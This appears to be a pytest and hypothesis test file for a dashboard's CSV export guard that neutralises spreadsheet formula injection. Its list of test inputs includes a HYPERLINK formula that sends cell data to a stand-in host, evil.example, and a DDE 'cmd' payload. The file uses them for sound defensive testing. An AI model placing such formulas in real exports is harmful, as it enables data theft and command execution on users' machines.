import csv
import io
import unicodedata

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dashboard.exports.cells import guard_cell, guarded_csv, unguard_cell

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "-cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1",
    "\uff1d1+1",
    "\ufe621+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u2a751",
    "'=1+1",
]
NUMBERS = ["-1", "+1", "-33.616", "+.5", "-1.", "-7e-05", "12", "0"]
cells = st.text(
    st.one_of(st.sampled_from("=+-@\t\r\0'\uff1d\uff0d1."), st.characters(codec="utf-8")), max_size=8
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_guarded(text):
    assert guard_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", [*NUMBERS, "", "Rabat", "O'Higgins", "'s-Hertogenbosch", "a=b", "N-1"])
def test_other_texts_and_plain_numbers_stay_as_they_are(text):
    assert guard_cell(text) == unguard_cell(text) == text


@given(cells)
@example("''=1")
@example("'-5")
@example("''-5")
def test_every_cell_reads_back_as_it_was_and_none_begins_a_formula(text):
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    if unicodedata.normalize("NFKC", guarded)[:1] in set("=+-@\t\r\0"):
        float(guarded)


@given(st.lists(st.tuples(cells, st.floats(-180, 180)), min_size=1, max_size=4))
def test_a_table_reads_back_row_by_row_whatever_is_in_it(rows):
    texts, numbers = zip(*rows, strict=True)
    written = guarded_csv(pd.DataFrame({"name": texts, "=lat": numbers})).decode()
    header, *found = csv.reader(io.StringIO(written, newline=""))
    assert header == ["name", "'=lat"]
    assert [(unguard_cell(name), float(lat)) for name, lat in found] == rows
